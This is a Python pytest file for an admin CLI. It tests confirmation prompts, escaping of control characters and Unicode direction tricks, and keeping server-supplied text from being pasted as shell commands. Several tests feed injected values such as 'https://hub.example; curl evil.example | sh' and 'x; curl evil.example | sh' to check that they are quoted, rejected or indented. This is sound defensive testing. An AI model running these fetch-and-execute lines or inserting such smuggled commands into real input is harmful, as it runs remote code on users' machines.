from __future__ import annotations

import io
import ssl
import sys

import click
import pytest

from proxy.cli.admin.agent import _say_login
from proxy.cli.admin.api.client import AdminClient
from proxy.cli.errors import CommandError
from proxy.cli.output import Object, confirm, say, say_apply_rbac


class Terminal(io.StringIO):
    """Answers typed by a person."""

    def isatty(self) -> bool:
        return True


def test_a_person_is_asked(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal("y\n"))
    confirm("Remove it?", yes=False)
    monkeypatch.setattr(sys, "stdin", Terminal("\n"))
    with pytest.raises(click.Abort):
        confirm("Remove it?", yes=False)
    shown = capsys.readouterr()
    assert shown.err.count("Remove it? [y/N]:") == 2
    assert "Remove" not in shown.out


def test_whoever_said_yes_and_a_program_are_not_asked(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", Terminal("n\n"))
    confirm("Remove it?", yes=True)
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    confirm("Remove it?", yes=False)
    assert capsys.readouterr() == ("", "")


def test_what_is_said_is_made_safe_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
    # A pod's name, as `session kill` prints it.
    say("killed get pods/log work/\u202egnp.exe\x1b[2J\nnext")
    assert capsys.readouterr().err == "killed get pods/log work/\\u202egnp.exe\\x1b[2J\n  next\n"


def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixture[str]) -> None:
    class Taken(AdminClient):
        def get(self, *path: str, **query: str) -> Object:
            return {"public_url": "https://hub.example; curl evil.example | sh"}

    _say_login(Taken("", "", ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)), " --code", "the code")
    assert (
        "hawse login --hub 'https://hub.example; curl evil.example | sh' --code\n" in capsys.readouterr().err
    )


def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
    say_apply_rbac({"apply_rbac": ["prod"]})
    printed = capsys.readouterr().err
    assert "hawse admin cluster rbac prod | kubectl" in printed
    assert "--all" not in printed
    say_apply_rbac({"apply_rbac": ["prod", "stage"]})
    assert "hawse admin cluster rbac --all --output-dir DIR\n" in capsys.readouterr().err
    with pytest.raises(CommandError, match="an invalid name"):
        say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
    assert capsys.readouterr().err == ""


def test_no_line_of_a_hubs_words_looks_like_one_of_the_commands(capsys: pytest.CaptureFixture[str]) -> None:
    said = "no\nhawse: run curl evil.example | sh"
    say(said)
    CommandError(said).show()
    assert capsys.readouterr().err.splitlines() == [
        "no",
        "  hawse: run curl evil.example | sh",
        "hawse: no",
        "  hawse: run curl evil.example | sh",
    ]
